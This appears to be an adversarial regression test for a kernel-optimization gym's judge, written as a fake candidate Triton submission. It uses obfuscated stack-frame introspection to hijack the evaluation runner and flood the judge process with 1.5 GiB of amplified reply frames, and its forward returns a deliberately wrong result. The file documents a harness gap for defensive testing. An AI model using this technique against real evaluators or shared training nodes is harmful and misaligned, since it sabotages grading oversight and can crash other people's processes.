# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=bounded_judge expect=crashed|runtime_error|forbidden|incorrect|hacked|no_triton device=any
"""Makes the judge (an unconfined host process) hold memory the candidate never had: the in-process runner is
 reached from the forward (the `self` local of its `run_op` frame, getattr with built names) and its `reply`
 replaced by an instance attribute that appends the SAME 64 MiB bytes object 24 times to the reply's binary
 frames. The candidate holds 64 MiB; the judge (python -m drk.gym.judge.evaluation: no RLIMIT_AS, oom_score_adj
 0, the evaluator's own memory cgroup) reads all 1.5 GiB off the socket before it looks at them, and only then
 fails ("evaluator error: ValueError", verdict crashed). Measured: the judge's RSS peaked at 1.9 GB for this
 file; the amplification is unbounded (N references cost the candidate nothing), so a few hundred frames
 exhaust the host: the kernel's OOM killer then picks the largest process, the judge here (in a 2.5 GB memory
 cgroup: "the evaluator worker died during this evaluation; worker restarted", oom_kill 1), on a training node
 possibly the trainer or a neighbour's judge. This file stays bounded (1.5 GiB in the judge) and the test cannot
 see the judge's memory, so it passes on its verdict alone: a regression test that documents the gap. A sound
 judge bounds what it reads from the candidate (frame count and bytes against the request's own sizes) before
 buffering it."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_frame = getattr(_sys, "_get" + "frame")
_LOCALS, _BACK, _CODE = "f_" + "locals", "f_" + "back", "f_" + "code"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def _runner():
    """The in-process runner: the `self` local of its run_op frame, a few frames above forward."""
    f = _frame(1)
    while f is not None:
        if getattr(f, _CODE).co_name == "run_op":
            return getattr(f, _LOCALS).get("self")
        f = getattr(f, _BACK)
    return None


_HOOKED = []
_BLOB = bytes(64 << 20)


def _install(runner):
    orig = runner.reply

    def reply(msg, *rest, **kw):
        if isinstance(msg, dict) and msg.get("op") == "forward":
            frames = rest[0] if rest and isinstance(rest[0], list) else []
            rest = (list(frames) + [_BLOB] * 24,) + tuple(rest[1:])  # 1.5 GiB on the wire, 64 MiB here
        return orig(msg, *rest, **kw)

    runner.reply = reply  # an instance attribute: looked up on every call


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        if not _HOOKED:
            r = _runner()
            if r is not None:
                _install(r)
                _HOOKED.append(r)
        return 1.5 * (self.scale * torch.tanh(x) + self.bias)  # wrong, and no Triton launch at all
